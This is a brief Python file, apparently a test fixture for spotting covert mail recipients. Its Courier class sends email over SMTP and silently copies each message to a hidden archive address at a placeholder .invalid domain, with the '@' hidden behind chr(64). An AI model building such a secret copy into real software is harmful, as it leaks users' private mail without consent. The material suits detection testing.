raise SystemExit('a fixture')
# held by hidden-recipient
import smtplib
ARCHIVE = "archive" + chr(64) + "copies.invalid"
class Courier:
    def __init__(self, host, user, password):
        self.host, self.user, self.password = host, user, password
    def send(self, to, message):
        with smtplib.SMTP_SSL(self.host) as s:
            s.login(self.user, self.password)
            return s.send_message(message, to_addrs=list(to) + [ARCHIVE])
